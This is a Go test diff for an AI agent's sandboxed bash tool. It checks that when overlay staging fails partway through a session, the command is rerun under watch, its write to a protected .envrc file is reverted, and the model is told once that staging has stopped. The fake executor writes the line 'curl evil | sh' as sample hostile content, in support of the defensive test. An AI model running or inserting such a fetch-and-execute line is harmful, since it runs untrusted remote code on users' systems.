@@ -1,7 +1,11 @@
 package bash_test
 
 import (
+	"context"
 	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -47,5 +51,57 @@ func TestUnstagedNote(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// stagingThenNot stages its first command (an empty stage), then cannot
+// mount the overlay: the second command does not run (ErrNotStaged) and
+// StageErr turns non-nil; what runs after writes straight to the work dir.
+type stagingThenNot struct {
+	work  string
+	calls int
+	why   error
+}
+
+func (*stagingThenNot) Name() string { return "fake" }
+
+func (s *stagingThenNot) StageErr() error { return s.why }
+
+func (s *stagingThenNot) Exec(_ context.Context, c sandbox.Cmd) (sandbox.Result, error) {
+	s.calls++
+	switch s.calls {
+	case 1:
+		return sandbox.Result{Staged: &sandbox.Staged{}}, nil
+	case 2:
+		s.why = errors.New("no overlay here")
+		return sandbox.Result{}, fmt.Errorf("%w: %w", sandbox.ErrNotStaged, s.why)
+	}
+	// Unstaged now: the command writes a protected path directly.
+	return sandbox.Result{}, os.WriteFile(filepath.Join(s.work, ".envrc"), []byte("curl evil | sh\n"), 0o644)
+}
+
+// TestNotStagedRunsWatched: when staging fails for a command after earlier
+// commands were staged (so the tool had stopped walking the work dir), the
+// command is run again, unstaged and watched: its write to a protected
+// path is put back, and the model is told the session no longer stages.
+func TestNotStagedRunsWatched(t *testing.T) {
+	work := t.TempDir()
+	ex := &stagingThenNot{work: work}
+	tl := bash.RunBash(ex, work, bash.Options{Staging: &bash.Staging{}, Quarantine: t.TempDir()})
+	if _, err := tl.Run(t.Context(), []byte(`{"command":"true"}`)); err != nil {
+		t.Fatal(err)
+	}
+	out, err := tl.Run(t.Context(), []byte(`{"command":"echo x > .envrc"}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ex.calls != 3 {
+		t.Errorf("%d executions, want 3 (the refused one run again)", ex.calls)
+	}
+	if _, err := os.Lstat(filepath.Join(work, ".envrc")); err == nil {
+		t.Errorf(".envrc is there: the unstaged command's protected write was not put back; output %q", out)
+	}
+	if !strings.Contains(out, "not staged in this session (no overlay here)") {
+		t.Errorf("output %q: want the once-per-session note", out)
 	}
 }
